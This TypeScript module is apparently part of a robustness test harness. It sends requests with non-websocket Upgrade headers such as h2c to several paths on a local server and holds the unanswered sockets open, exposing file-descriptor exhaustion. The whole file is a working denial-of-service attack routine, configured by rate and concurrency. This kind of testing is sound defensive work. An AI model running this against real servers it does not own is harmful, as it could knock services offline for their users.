/**
 * Attack 4: `Upgrade: h2c` and other values that are not websocket, on several paths, then the
 * socket held open. A server that ignores such an upgrade leaves the socket detached from every
 * HTTP timeout: it lives, with its file descriptor, until the peer goes away — or longer, since
 * an HTTP server's sockets allow half-open and nothing reads the peer's FIN.
 */
import { aborted, runLoop, sleep } from '../loop.js'
import { rawExchange, requestText } from '../raw.js'
import { Tally } from '../tally.js'
import { type Attack, type AttackContext, cookieFor } from './context.js'

const ANSWER_TIMEOUT_MS = 10_000

export const otherUpgradesPlan = { maxAttempts: 2_000, maxInFlight: 200, perSecond: 4 }

const upgrades: Array<Record<string, string>> = [
  { Upgrade: 'h2c', Connection: 'Upgrade, HTTP2-Settings', 'HTTP2-Settings': 'AAMAAABkAARAAAAAAAIAAAAA' },
  { Upgrade: 'TLS/1.2', Connection: 'Upgrade' },
  { Upgrade: 'IRC/6.9', Connection: 'Upgrade' },
  { Upgrade: 'HTTP/2.0', Connection: 'Upgrade' },
  { Upgrade: 'websocketx', Connection: 'Upgrade' },
]

export function otherUpgrades(ctx: AttackContext): Attack {
  const tally = new Tally(
    'other-upgrades',
    'Upgrade: h2c and other non-websocket values, held (4)',
    'rawSockets',
  )
  const { target } = ctx
  const paths = [
    '/',
    '/api/me',
    `/collab/${target.documentId}`,
    `/api/workspaces/${target.workspaceId}/events`,
  ]
  const done = runLoop(otherUpgradesPlan, ctx.signal, tally, async (i) => {
    const exchange = rawExchange(
      target.port,
      requestText('GET', paths[i % paths.length]!, {
        Host: `127.0.0.1:${target.port}`,
        Origin: target.origin,
        Cookie: cookieFor(target, i),
        ...upgrades[Math.floor(i / paths.length) % upgrades.length]!,
      }),
      ctx.sockets,
    )
    const release = tally.hold(() => !exchange.socket.destroyed)
    const outcome = await Promise.race([
      exchange.answer,
      sleep(ANSWER_TIMEOUT_MS, ctx.signal).then(() => (ctx.signal.aborted ? 'stopped at the end' : null)),
    ])
    if (outcome !== null) {
      tally.outcome(outcome)
      exchange.socket.destroy()
      release()
      return
    }
    // No answer: hold it (the socket is read, so a close by the server ends the hold).
    await Promise.race([exchange.closed, aborted(ctx.signal)])
    tally.outcome(ctx.signal.aborted ? 'no answer, held until the end' : 'no answer, closed by server later')
    exchange.socket.destroy()
    release()
  })
  return { tallies: [tally], done }
}
